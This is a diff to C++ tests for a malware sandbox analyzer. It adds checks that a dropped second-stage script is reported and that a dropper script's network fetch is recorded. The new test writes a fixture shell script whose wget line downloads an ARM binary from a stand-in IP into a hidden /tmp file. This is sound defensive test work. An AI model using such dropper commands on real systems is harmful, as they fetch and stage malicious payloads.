@@ -156,9 +156,32 @@ TEST(SandboxAnalyze, DaemonRenamerStartUp) {
     EXPECT_NE(std::find(persistence->mitre.begin(), persistence->mitre.end(), "T1037.004"), persistence->mitre.end());
     EXPECT_NE(findHit(report, "watchdog_access"), nullptr) << ids(report);
     EXPECT_EQ(report.verdict, "malicious");
+    bool second_stage = false;
     for (const DroppedFile& f : report.dropped) {
         EXPECT_FALSE(f.is_sample) << "the sample deleted itself: " << f.path;
+        second_stage = second_stage || (f.path == "/tmp/.kansoku_stage2.sh" && f.sha256.size() == 64 &&
+                                        f.file_type.find("script") != std::string::npos);
     }
+    EXPECT_TRUE(second_stage) << "the dropped second-stage script is reported with its digests";
+}
+
+TEST(SandboxAnalyze, ADroppersScriptRunsUnderTheJailsShell) {
+    SKIP_UNLESS_SUPPORTED("x86_64", "idle");
+    TempDir dir;
+    const fs::path script = dir.path() / "bins.sh";
+    std::ofstream(script) << "#!/bin/sh\ncd /tmp\nwget http://192.0.2.7/bins/x.arm -O .x\necho done > /tmp/.ran\n";
+    AnalysisOptions options = shortRun(dir, 4s);
+    options.filename = "bins.sh";
+    auto report = analyzeSample(script.string(), options);
+    ASSERT_TRUE(report.has_value()) << report.error().message;
+    // The shell's wget reached the fake network; BusyBox naming its applet is not masquerading.
+    bool fetched = false;
+    for (const auto& c : report->network.connections) {
+        fetched = fetched || (c.dst.toString() == "192.0.2.7" && c.dst_port == 80);
+    }
+    EXPECT_TRUE(fetched) << report->toJson().dump();
+    EXPECT_EQ(findHit(*report, "process_masquerading"), nullptr) << ids(*report);
+    EXPECT_FALSE(report->emulated);
 }
 
 TEST(SandboxAnalyze, KillerKills) {
